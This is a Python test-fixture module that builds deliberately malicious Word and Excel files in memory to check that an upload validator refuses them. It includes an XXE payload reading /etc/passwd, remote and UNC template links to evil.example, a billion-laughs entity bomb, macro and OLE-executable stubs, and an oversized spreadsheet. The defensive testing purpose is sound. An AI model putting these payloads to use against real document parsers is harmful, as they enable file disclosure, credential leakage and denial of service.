"""Hostile files, built in memory, for the benchmarks and the attack probe (tests/attack_probe.py).

Each builder writes the ZIP parts by hand (no openpyxl, no python-docx): fast, and free to be as
wrong as an attacker likes.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator

from docx import Document

XLSX_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
XLSX_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Phụ lục" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    "</Relationships>"
)


def _sheet_rows(rows: int, columns: int) -> Iterator[bytes]:
    # Row and cell references are optional in the format: every row is the same bytes.
    row = b"<row>" + b"<c><v>7</v></c>" * columns + b"</row>"
    for _ in range(rows):
        yield row


def wide_workbook(rows: int = 1_000, columns: int = 2_000) -> bytes:
    """An XLSX of rows × columns numeric cells: 1,000 × 2,000 is two million cells, 30 MB once
    unpacked (under the 50 MB bound) from 62 KB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", XLSX_TYPES)
        archive.writestr("_rels/.rels", XLSX_RELS)
        archive.writestr("xl/workbook.xml", WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
            sheet.write(
                b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet '
                b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            )
            for row in _sheet_rows(rows, columns):
                sheet.write(row)
            sheet.write(b"</sheetData></worksheet>")
    return buffer.getvalue()


# -- Word files -------------------------------------------------------------------------------

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
VBA_TYPE = "application/vnd.ms-office.vbaProject"
OLE_TYPE = "application/vnd.openxmlformats-officedocument.oleObject"


def plain_docx() -> bytes:
    """A real Word document (python-docx), the base every hostile variant is made from."""
    document = Document()
    document.add_paragraph("Kế hoạch ứng dụng công nghệ thông tin năm học 2026-2027")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def _rewritten(content: bytes, changes: dict[str, bytes]) -> bytes:
    """`content`'s package with parts replaced or added."""
    source = zipfile.ZipFile(io.BytesIO(content))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        for info in source.infolist():
            if info.filename not in changes:
                out.writestr(info.filename, source.read(info.filename))
        for name, data in changes.items():
            out.writestr(name, data)
    return buffer.getvalue()


def _with_types_and_relations(
    base: bytes, overrides: dict[str, str], relations: list[str], extra: dict[str, bytes]
) -> bytes:
    package = zipfile.ZipFile(io.BytesIO(base))
    types = package.read("[Content_Types].xml").decode()
    for part, kind in overrides.items():
        types = types.replace(
            "</Types>", f'<Override PartName="{part}" ContentType="{kind}"/></Types>'
        )
    rels = package.read("word/_rels/document.xml.rels").decode()
    for number, relation in enumerate(relations, start=90):
        rels = rels.replace(
            "</Relationships>", f'<Relationship Id="rId{number}" {relation}/></Relationships>'
        )
    changes = {"[Content_Types].xml": types.encode(), "word/_rels/document.xml.rels": rels.encode()}
    return _rewritten(base, {**changes, **extra})


def _main_type(base: bytes, kind: bytes) -> bytes:
    types = zipfile.ZipFile(io.BytesIO(base)).read("[Content_Types].xml")
    main = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return types.replace(main, kind)


def hostile_docx() -> dict[str, bytes]:
    """Word files that must be refused, by what they hide."""
    base = plain_docx()
    return {
        "macro-renamed.docx": _with_types_and_relations(
            base, {"/word/macros.dat": VBA_TYPE},
            ['Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="macros.dat"'],
            {"word/macros.dat": b"\xd0\xcf\x11\xe0 vba"},
        ),
        "ole-exe.docx": _with_types_and_relations(
            base, {"/word/embeddings/oleObject1.bin": OLE_TYPE},
            [f'Type="{REL}/oleObject" Target="embeddings/oleObject1.bin"'],
            {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 MZ\x90\x00 setup.exe"},
        ),
        "remote-template.docx": _with_types_and_relations(
            base, {},
            [f'Type="{REL}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"'],
            {},
        ),
        "unc-template.docx": _with_types_and_relations(
            base, {},
            [f'Type="{REL}/attachedTemplate" Target="\\\\evil.example\\share\\t.dotm" TargetMode="External"'],
            {},
        ),
        "remote-image.docx": _with_types_and_relations(
            base, {}, [f'Type="{REL}/image" Target="https://evil.example/pixel.png" TargetMode="External"'], {},
        ),
        "macro-enabled.docx": _rewritten(base, {"[Content_Types].xml": _main_type(
            base, b"application/vnd.ms-word.document.macroEnabled.main+xml")}),
        "billion-laughs.docx": _rewritten(base, {"[Content_Types].xml": (
            b'<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;'
            b'&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><Types>&c;</Types>')}),
        "xxe.docx": _rewritten(base, {"word/_rels/document.xml.rels": (
            b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            b"<Relationships>&x;</Relationships>")}),
    }  # fmt: skip


def acceptable_docx() -> dict[str, bytes]:
    """Word files that must be accepted: a plain one, a hyperlink, a template on the own disk."""
    base = plain_docx()
    return {
        "plain.docx": base,
        "hyperlink.docx": _with_types_and_relations(
            base, {}, [f'Type="{REL}/hyperlink" Target="https://truong.edu.vn/ke-hoach" TargetMode="External"'], {},
        ),
        "local-template.docx": _with_types_and_relations(
            base, {},
            [f'Type="{REL}/attachedTemplate" Target="file:///C:\\Users\\gv\\Mau.dotx" TargetMode="External"'],
            {},
        ),
    }  # fmt: skip
